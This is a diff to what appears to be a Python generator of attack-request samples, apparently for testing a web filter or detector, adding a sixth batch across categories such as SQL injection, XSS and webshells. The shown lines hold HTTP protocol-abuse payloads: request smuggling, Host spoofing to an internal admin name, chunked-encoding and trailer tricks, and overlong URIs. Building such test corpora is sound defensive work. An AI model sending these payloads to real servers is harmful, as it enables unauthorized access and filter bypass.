+        with_headers("POST", "/api/v1/register", {"Content-Type": "application/json",
+                                                  "Content-Length": str(len(dup))}, dup),
+        with_headers("POST", "/api/v1/search", {"Content-Type": "application/x-www-form-urlencoded", "Expect": "100-continue",
+                                                "Content-Length": "0"}, "GET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"),
+        with_headers("GET", "/static/app.js HTTP/1.1", {}),
+        with_headers("GET", "/", {"host": "admin.internal"}),
+        with_headers("POST", "/api/v1/orders", {"Transfer-Encoding": "chunked"},
+                     "5;" + "a" * 8000 + "\r\nhello\r\n0\r\n\r\n"),
+        with_headers("POST", "/api/v1/orders", {"Transfer-Encoding": "chunked", "Trailer": "X-Forwarded-For, X-Real-IP"},
+                     trailer),
+        with_headers("GET", "/" + "A" * 9000, {}),
+        with_headers("get", "/", {"Transfer-Encoding": "chunked"}, "0\r\n\r\n"),
+        with_headers("POST", "/login", {"Content-Type": "application/x-www-form-urlencoded; charset=utf-16le",
+                                        "Content-Length": "22"}, "user=admin&pass=secret"),
+    ]
+
+
+BATCH6 = {"sqli": sqli6, "xss": xss6, "cmdi": cmdi6, "lfi": lfi6, "rfi_ssrf": rfi_ssrf6, "xxe": xxe6,
+          "ssti": ssti6, "webshell": webshell6, "scanner": scanner6, "protocol": protocol6}
+
+
 CATEGORIES = [("sqli", sqli), ("xss", xss), ("cmdi", cmdi), ("lfi", lfi), ("rfi_ssrf", rfi_ssrf),
               ("xxe", xxe), ("ssti", ssti), ("webshell", webshell), ("scanner", scanner),
               ("protocol", protocol)]
@@ -1844,8 +2225,8 @@ CATEGORIES = [("sqli", sqli), ("xss", xss), ("cmdi", cmdi), ("lfi", lfi), ("rfi_
 
 def main():
     out = sys.argv[1] if len(sys.argv) > 1 else OUT
-    # Batch 1 first, for all files, then batch 2, then 3, then 4, then 5: each batch's User-Agent
-    # rotation stays what it was when it was measured.
+    # Batch 1 first, for all files, then batch 2, then 3, then 4, then 5, then 6: each batch's
+    # User-Agent rotation stays what it was when it was measured.
     first = [(name, fn()) for name, fn in CATEGORIES]
     for name, reqs in first:
         reqs += BATCH2[name]()
@@ -1855,6 +2236,8 @@ def main():
         reqs += BATCH4[name]()
     for name, reqs in first:
         reqs += BATCH5[name]()
+    for name, reqs in first:
+        reqs += BATCH6[name]()
     for name, reqs in first:
         seen = set()
         for r in reqs:
